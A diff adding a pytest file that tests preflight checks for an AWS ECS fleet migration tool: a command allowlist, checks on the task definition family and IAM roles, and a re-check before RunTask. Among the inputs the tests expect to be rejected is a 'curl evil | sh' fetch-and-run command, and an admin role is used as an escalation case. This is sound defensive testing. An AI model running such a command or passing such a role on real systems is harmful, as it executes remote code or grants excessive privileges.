@@ -1,0 +1,119 @@
+"""Preflight checks of commands, family and task roles (fleet_migration/preflight.py), as plain functions and
+at the run-task step, which checks the command again before RunTask."""
+
+from __future__ import annotations
+
+import json
+
+import check_drained
+import describe_service
+import pytest
+import run_task
+import scale_down
+from fleet_migration import preflight
+from fleet_migration.errors import InvalidInput
+
+EXECUTION_ROLE = "arn:aws:iam::123456789012:role/fleet-execution"
+TASK_ROLE = "arn:aws:iam::123456789012:role/fleet-task"
+ALLOWED = {preflight.FAMILY_ENV: "fleet", preflight.EXECUTION_ROLE_ENV: EXECUTION_ROLE, preflight.TASK_ROLE_ENV: TASK_ROLE}
+
+
+def revision(**fields) -> dict:
+    return {"taskDefinitionArn": "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:3", "family": "fleet",
+            "executionRoleArn": EXECUTION_ROLE, "taskRoleArn": TASK_ROLE, **fields}
+
+
+# -- commands ------------------------------------------------------------------------------------------
+
+def test_without_a_setting_only_fleets_prepare_db_is_allowed() -> None:
+    assert preflight.allowed_commands({}) == [["fleet", "prepare", "db"], ["fleet", "prepare", "db", "--no-prompt"]]
+
+
+@pytest.mark.parametrize("command", [["fleet", "prepare", "db"], ["fleet", "prepare", "db", "--no-prompt"]])
+def test_fleets_prepare_db_passes_by_default(command) -> None:
+    preflight.check_command(command, preflight.allowed_commands({}))
+
+
+@pytest.mark.parametrize("command", [["sh", "-c", "curl evil | sh"], ["fleet", "prepare", "db", "--dev"],
+                                     ["fleet", "prepare"], ["fleet prepare db"]])
+def test_any_other_command_is_invalid_input_naming_the_field_and_the_fix(command) -> None:
+    with pytest.raises(InvalidInput) as caught:
+        preflight.check_command(command, preflight.allowed_commands({}))
+
+    assert caught.value.details["fields"] == ["command"]
+    assert caught.value.message.startswith(f"command: {json.dumps(command)} is not a command this deployment allows")
+    assert "AllowedCommands" in caught.value.message and '["fleet", "prepare", "db", "--no-prompt"]' in caught.value.message
+
+
+def test_the_deployment_chooses_its_commands() -> None:
+    allowed = preflight.allowed_commands({preflight.ALLOWED_COMMANDS_ENV: '[["fleet", "prepare", "db", "--dev"]]'})
+
+    preflight.check_command(["fleet", "prepare", "db", "--dev"], allowed)
+    with pytest.raises(InvalidInput):
+        preflight.check_command(["fleet", "prepare", "db", "--no-prompt"], allowed)
+
+
+@pytest.mark.parametrize("setting", ['["fleet"]', "[]", '[["fleet", 1]]', '{"fleet": true}'])
+def test_a_malformed_setting_is_an_error_naming_the_parameter(setting) -> None:
+    with pytest.raises(ValueError, match="AllowedCommands"):
+        preflight.allowed_commands({preflight.ALLOWED_COMMANDS_ENV: setting})
+
+
+# -- family and roles ----------------------------------------------------------------------------------
+
+def test_a_revision_of_the_allowed_family_with_the_allowed_roles_passes() -> None:
+    preflight.check_family(revision(), ALLOWED)
+    preflight.check_roles(revision(), ALLOWED)
+
+
+def test_another_family_is_invalid_input_naming_task_definition() -> None:
+    with pytest.raises(InvalidInput) as caught:
+        preflight.check_family(revision(family="osquery"), ALLOWED)
+
+    assert caught.value.details["fields"] == ["task_definition"]
+    assert "TaskDefinitionFamily=osquery" in caught.value.message
+
+
+@pytest.mark.parametrize(("key", "parameter"), [("taskRoleArn", "TaskRoleArn"), ("executionRoleArn", "TaskExecutionRoleArn")])
+def test_a_role_the_deployment_may_not_pass_is_invalid_input_naming_the_revision(key, parameter) -> None:
+    admin = "arn:aws:iam::123456789012:role/admin"
+
+    with pytest.raises(InvalidInput) as caught:
+        preflight.check_roles(revision(**{key: admin}), ALLOWED)
+
+    assert caught.value.details["fields"] == ["task_definition_revision"]
+    assert f"has {key} {admin}" in caught.value.message and f"{parameter}={admin}" in caught.value.message
+
+
+def test_a_task_role_is_refused_when_the_deployment_allows_none() -> None:
+    with pytest.raises(InvalidInput, match="taskRoleArn"):
+        preflight.check_roles(revision(), {**ALLOWED, preflight.TASK_ROLE_ENV: ""})
+
+
+def test_a_role_named_by_its_name_is_the_role_of_that_name() -> None:
+    preflight.check_roles(revision(taskRoleArn="fleet-task"), ALLOWED)
+    with pytest.raises(InvalidInput):
+        preflight.check_roles(revision(taskRoleArn="admin"), ALLOWED)
+
+
+def test_without_settings_family_and_roles_are_left_to_iam() -> None:
+    preflight.check_family(revision(family="osquery"), {})
+    preflight.check_roles(revision(taskRoleArn="arn:aws:iam::123456789012:role/admin"), {})
+
+
+# -- the run-task step checks again ----------------------------------------------------------------------
+
+def test_the_run_task_step_refuses_a_command_the_deployment_no_longer_allows(emu, deployment, execution,
+                                                                              lambda_context, monkeypatch) -> None:
+    # GIVEN a migration that passed the describe step and drained
+    event = {"input": deployment.migration_input(poll_interval_seconds=1), "execution": execution()}
+    state = scale_down.lambda_handler(describe_service.lambda_handler(event, lambda_context), lambda_context)
+    emu.clock.advance(5)
+    state = check_drained.lambda_handler(state, lambda_context)
+    # WHEN its command is not (or no longer) allowed when the task would start
+    monkeypatch.setenv(preflight.ALLOWED_COMMANDS_ENV, '[["fleet", "prepare", "db"]]')
+
+    # THEN no task starts (the rollback that follows restores the services)
+    with pytest.raises(InvalidInput, match="command"):
+        run_task.lambda_handler(state, lambda_context)
+    assert emu.ecs_sim.run_task_calls == []
